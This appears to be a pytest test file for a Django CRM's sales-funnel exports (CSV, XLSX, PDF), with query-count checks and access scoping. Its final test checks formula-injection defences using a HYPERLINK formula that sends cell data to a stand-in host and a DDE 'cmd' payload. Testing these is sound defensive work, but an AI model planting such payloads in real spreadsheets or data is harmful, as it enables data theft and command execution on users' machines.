import csv
import io
import random
from decimal import Decimal

from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from crm.testing import pdf_text
from deals import services

from .conftest import at


def _add_deals(history, count, seed):
    """Deals with varied histories: walks, skips, losses, wins, reopens."""
    h = history
    rng = random.Random(seed)
    path = [h.Q, h.B, h.K, h.D, h.S]
    for i in range(count):
        manager = h.a if i % 2 else h.b
        key = f"x{seed}-{i}"
        h.create(key, manager, at(3, 1 + i % 20, 9), 10_000 * (i + 1))
        day = 1 + i % 20
        for stage in path[: rng.randint(0, 5)]:
            if rng.random() < 0.2:
                continue
            day += 0 if day >= 27 else 1
            h.move(key, stage, at(3, day, 9 + path.index(stage)))
        fate = rng.random()
        if fate < 0.3:
            h.move(key, h.L, at(3, 28, 9), rng.choice([h.R1, h.R2, h.R3]))
            if fate < 0.1:
                h.move(key, h.Q, at(3, 29, 9))
        elif fate < 0.5:
            h.move(key, h.W, at(3, 28, 10))
        elif fate < 0.7:
            h.task(key, manager)


def _queries(client, url, params):
    with CaptureQueriesContext(connection) as ctx:
        response = client.get(url, params)
    assert response.status_code == 200
    return len(ctx.captured_queries)


def test_query_count_does_not_grow_with_the_number_of_deals(history, client_head, client_a):
    urls = [
        (reverse("analytics:funnel"), {"month": "2025-03"}),
        (
            reverse("analytics:funnel_deals"),
            {"month": "2025-03", "basis": "cohort", "metric": "reached", "stage": history.Q.pk},
        ),
        (
            reverse("analytics:funnel_deals"),
            {"month": "2025-03", "basis": "flow", "metric": "lost"},
        ),
        (reverse("analytics:funnel_export", args=["all", "xlsx"]), {"month": "2025-03"}),
    ]
    _add_deals(history, 2, seed=1)
    before = [(_queries(c, u, p)) for c in (client_head, client_a) for u, p in urls]
    _add_deals(history, 48, seed=2)
    after = [(_queries(c, u, p)) for c in (client_head, client_a) for u, p in urls]
    assert before == after
    assert max(after) <= 20


def _csv(response):
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


def test_cohort_csv(history, client_head):
    response = client_head.get(
        reverse("analytics:funnel_export", args=["cohort", "csv"]), {"month": "2025-03"}
    )
    assert 'filename="funnel-cohort-2025-03-01-2025-03-31.csv"' in response["Content-Disposition"]
    rows = _csv(response)
    assert rows[0][:3] == ["Этап", "Дошли до этапа", "Сумма, ₽"]
    assert rows[1][:8] == [
        "Новая заявка",
        "9",
        "2530000,00",
        "100,0",
        "100,0",
        "1",
        "150000,00",
        "2",
    ]
    assert rows[3][:5] == ["Бриф", "5", "1250000,00", "83,3", "55,6"]
    assert rows[7][:5] == ["Выиграны", "2", "500000,00", "66,7", "22,2"]
    assert rows[8][:3] == ["Проиграны, всего", "3", "650000,00"]


def test_every_table_exports_to_csv(history, client_head):
    expected_first = {
        "flow": ["Новая заявка", "9"],
        "losses_cohort": ["Новая заявка", "0", "0,00", "1", "150000,00", "1", "150000,00"],
        "losses_flow": ["Новая заявка", "0", "0,00", "1", "150000,00", "0", "0,00", "1"],
        "time": ["Новая заявка", "7", "1,0", "2,0"],
        "managers": ["Анна", "5", "2", "2", "40,0", "500000,00", "1"],
    }
    for table, first in expected_first.items():
        response = client_head.get(
            reverse("analytics:funnel_export", args=[table, "csv"]), {"month": "2025-03"}
        )
        rows = _csv(response)
        assert rows[1][: len(first)] == first, table


def test_xlsx_has_a_sheet_per_table_with_numbers(history, client_head):
    response = client_head.get(
        reverse("analytics:funnel_export", args=["all", "xlsx"]), {"month": "2025-03"}
    )
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == [
        "Когорта",
        "Поток",
        "Отказы (когорта)",
        "Отказы (поток)",
        "Время на этапе",
        "Менеджеры",
    ]
    sheet = book["Когорта"]
    assert sheet["A1"].value.startswith("Когорта: сделки, созданные в периоде Март 2025")
    assert [c.value for c in sheet[3]][:5] == ["Новая заявка", 9, 2530000, 100, 100]
    assert sheet["C3"].number_format == "#,##0.00"
    managers = book["Менеджеры"]
    assert [c.value for c in managers[3]] == ["Анна", 5, 2, 2, 40, 500000, 1]
    one = client_head.get(
        reverse("analytics:funnel_export", args=["time", "xlsx"]), {"month": "2025-03"}
    )
    assert load_workbook(io.BytesIO(one.content)).sheetnames == ["Время на этапе"]


def test_a_managers_export_has_only_their_deals(history, client_a):
    response = client_a.get(
        reverse("analytics:funnel_export", args=["managers", "csv"]), {"month": "2025-03"}
    )
    names = [row[0] for row in _csv(response)[1:]]
    assert names == ["Анна"]
    response = client_a.get(
        reverse("analytics:funnel_export", args=["cohort", "csv"]), {"month": "2025-03"}
    )
    assert _csv(response)[1][1] == "5"


def test_unknown_export_is_404(client_head):
    assert client_head.get(reverse("analytics:funnel_export", args=["x", "csv"])).status_code == 404
    assert (
        client_head.get(reverse("analytics:funnel_export", args=["cohort", "pdf"])).status_code
        == 404
    )
    assert (
        client_head.get(reverse("analytics:funnel_export", args=["all", "csv"])).status_code == 404
    )


def test_report_pdf_download(history, client_head):
    response = client_head.get(reverse("analytics:funnel_pdf"), {"month": "2025-03"})
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    text = pdf_text(response.content, layout=True)
    assert "Воронка продаж: Март 2025" in text
    assert "Почему и на каком этапе теряем сделки" in text
    assert "Страница 1 из" in text


def test_kopecks_are_kept_in_sums(history, head, march):
    from analytics import funnel

    services.deal_set_budget(deal=history.deals["01"], amount=Decimal("100000.55"))
    report = funnel.build_report(funnel.scope_for(head), march)
    assert report.cohort.won_sum == Decimal("500000.55")
    assert report.cohort.won_average == Decimal("250000.28")


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")'


def test_typed_formulas_are_exported_as_text(history, client_head):
    history.N.name = FORMULA
    history.N.save()
    history.R1.name = "@SUM(1+1)"
    history.R1.save()
    history.a.first_name, history.a.last_name = "+cmd|' /C calc'!A0", ""
    history.a.save()
    rows = _csv(
        client_head.get(
            reverse("analytics:funnel_export", args=["cohort", "csv"]), {"month": "2025-03"}
        )
    )
    assert rows[1][0] == "'" + FORMULA
    losses = _csv(
        client_head.get(
            reverse("analytics:funnel_export", args=["losses_flow", "csv"]), {"month": "2025-03"}
        )
    )
    assert "'@SUM(1+1): сделок" in losses[0]

    response = client_head.get(
        reverse("analytics:funnel_export", args=["all", "xlsx"]), {"month": "2025-03"}
    )
    book = load_workbook(io.BytesIO(response.content))
    cell = book["Когорта"]["A3"]
    assert (cell.data_type, cell.value) == ("s", "'" + FORMULA)
    managers = [c.value for c in book["Менеджеры"]["A"]]
    assert any(str(v).startswith("'+cmd|") for v in managers)
    # Numbers, negative ones included, stay numbers.
    assert isinstance(book["Когорта"]["B3"].value, int)
